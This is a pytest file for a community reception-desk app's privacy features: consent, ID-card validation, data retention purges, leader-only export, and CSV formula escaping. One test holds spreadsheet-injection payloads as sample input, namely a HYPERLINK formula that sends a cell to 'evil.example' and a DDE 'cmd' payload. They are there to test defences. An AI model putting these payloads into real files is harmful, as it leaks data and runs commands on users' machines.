"""PIPL on the laptop: consent with each case, the optional ID-card number, purging after the
platform closed a case (the counts stay right), and the team leader's export."""

from __future__ import annotations

import csv
import json
from dataclasses import replace

import pytest
from reception_support import TEST_PIN

from reception import clock
from reception.errors import ValidationFailed
from reception.form_definition import FieldSpec
from reception.privacy import audit, id_cards, retention
from reception.privacy.export import export_cases, neutralise_formula
from reception.privacy.notice import notice_text
from reception.privacy.roles import Access, LeaderRequired
from reception.storage import repository as repo


def test_consent_is_required_unless_anonymous_and_recorded(desk, make_case):
    with pytest.raises(ValidationFailed) as refused:
        desk.record_case(make_case(consent=False))
    assert [e.field for e in refused.value.errors] == ["consent"]
    assert "征得同意" in str(refused.value) and "F1" in str(refused.value)
    anonymous = desk.record_case(make_case(anonymous=True, resident_name="", phone="", consent=False))
    assert not anonymous.consent
    agreed = desk.record_case(make_case())
    assert agreed.consent and desk.case(agreed.id).consent


def test_the_id_card_field_is_off_by_default_and_checked_by_its_check_digit_when_on(desk, form, make_case):
    assert "id_number" not in form.field_names
    with pytest.raises(ValidationFailed):
        desk.record_case(make_case(id_number="11010519491231002X"))
    on = replace(form, fields=form.fields + (FieldSpec("id_number", "身份证号", "id_card", personal=True),))
    desk.form = on
    case = desk.record_case(make_case(id_number="11010519491231002x"))
    assert desk.case(case.id).id_number == "11010519491231002X"
    with pytest.raises(ValidationFailed) as refused:
        desk.record_case(make_case(id_number="110105194912310021"))
    assert "「身份证号」校验位不对" in str(refused.value)
    assert "110105194912310021" not in str(refused.value)
    assert id_cards.masked("11010519491231002X") == "1101**********002X"


def test_the_notice_says_who_why_what_how_long_and_the_rights(form):
    text = notice_text(form, 90, "0755-27891234")
    for words in ("新安街道", "为什么", "居民姓名、联系电话、具体地址", "90 天", "权利", "撤回同意", "0755-27891234", "匿名"):
        assert words in text


def _synced_and_closed(desk, case, closed_at):
    with desk.db.atomic():
        repo.mark_case_synced(desk.db, case.id, clock.to_text(closed_at), "closed")
        repo.set_platform_status(desk.db, case.id, "closed", clock.to_text(closed_at), True)


def test_a_purge_removes_personal_fields_after_the_retention_and_keeps_the_counts(desk, open_session, make_case, clock, tmp_path):
    old = desk.record_case(make_case(resident_name="诸葛亮", phone="13600001111", address="卧龙岗1号"))
    recent = desk.record_case(make_case(resident_name="黄月英"))
    unsynced = desk.record_case(make_case(resident_name="刘备"))
    desk.count_visitor(5)
    closed_night = desk.close_session()
    counts_before = closed_night.counts
    _synced_and_closed(desk, old, clock.now())
    clock.advance(days=40)
    _synced_and_closed(desk, recent, clock.now())
    clock.advance(days=60)  # old: closed 100 days ago; recent: 60 days ago

    assert retention.due(desk, 90) == [old.tracking_code]
    report = retention.purge(desk, 90)
    assert report.purged == (old.tracking_code,)
    purged = desk.case(old.id)
    assert purged.is_purged and (purged.resident_name, purged.phone, purged.address) == ("", "", "")
    assert purged.description == retention.PURGED_DESCRIPTION and purged.photos == ()
    assert (purged.category_code, purged.community, purged.outcome) == (old.category_code, old.community, old.outcome)
    assert desk.case(recent.id).resident_name == "黄月英" and desk.case(unsynced.id).resident_name == "刘备"
    assert desk.session(closed_night.id).counts == counts_before
    assert repo.session_case_counts(desk.db, closed_night.id)["petitions"] == 3
    assert audit.entries(desk.db)[-1]["action"] == "purge" and "诸葛亮" not in repr(audit.entries(desk.db))
    assert retention.purge(desk, 90).purged == ()  # nothing twice


def test_export_needs_the_team_leader_and_is_logged(desk, make_case, tmp_path):
    desk.record_case(make_case(resident_name="孙尚香"))
    access = Access(desk)
    access.set_pin(TEST_PIN)
    access.action_done()  # the PIN set, leader mode ends: a volunteer at the keyboard
    out = tmp_path / "export.csv"
    with pytest.raises(LeaderRequired, match="只有队长"):
        export_cases(desk, access, out, "csv", tmp_path / "data")
    assert not out.exists()
    access.become_leader(TEST_PIN)
    assert export_cases(desk, access, out, "csv", tmp_path / "data") == 1
    text = out.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    [row] = list(csv.DictReader(text.removeprefix("\ufeff").splitlines()))
    assert row["resident_name"] == "孙尚香" and row["consent"] == "True"
    assert row["phone"] == "'+8613812345678"  # kept as text, not a formula nor 8.61E+12
    assert export_cases(desk, access, tmp_path / "export.json", "json", tmp_path / "data") == 1
    assert json.loads((tmp_path / "export.json").read_text(encoding="utf-8"))[0]["phone"] == "+8613812345678"
    with pytest.raises(Exception, match="数据目录"):
        export_cases(desk, access, tmp_path / "data" / "x.csv", "csv", tmp_path / "data")
    exports = [e for e in audit.entries(desk.db) if e["action"] == "export"]
    assert [e["detail"] for e in exports] == ["1 条，CSV", "1 条，JSON"] and exports[0]["role"] == "leader"


def test_the_purge_can_be_run_by_the_system_role_and_is_logged_as_such(desk, make_case, clock):
    case = desk.record_case(make_case(resident_name="貂蝉"))
    _synced_and_closed(desk, case, clock.now())
    clock.advance(days=91)
    assert retention.purge(desk, 90, role="system").purged == (case.tracking_code,)
    entry = audit.entries(desk.db)[-1]
    assert (entry["action"], entry["role"]) == ("purge", "system")
    assert "系统" in audit.describe(entry)


def test_the_csv_export_neutralises_formulas_and_the_json_keeps_the_text(desk, make_case, tmp_path):
    desk.record_case(make_case(
        description='=HYPERLINK("http://evil.example/?d="&B2,"点这里")',
        address="@SUM(1+1)*cmd|' /C calc'!A0",
        outcome_note="-2+3",
        resident_name="+王阿姨",
    ))
    access = Access(desk)
    access.set_pin(TEST_PIN)
    access.become_leader(TEST_PIN)
    export_cases(desk, access, tmp_path / "out.csv", "csv", tmp_path / "data")
    [row] = list(csv.DictReader((tmp_path / "out.csv").read_text(encoding="utf-8").removeprefix("\ufeff").splitlines()))
    for column in ("description", "address", "outcome_note", "resident_name", "phone"):
        assert row[column].startswith("'"), column
    assert row["description"] == "\'=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点这里\")"
    assert row["category_name"][0] != "'" and row["urgency"] == "一般"
    export_cases(desk, access, tmp_path / "out.json", "json", tmp_path / "data")
    [plain] = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert plain["description"].startswith("=HYPERLINK(")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised(prefix):
    assert neutralise_formula(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise_formula("1" + prefix) == "1" + prefix
    assert neutralise_formula(None) is None and neutralise_formula(3) == 3
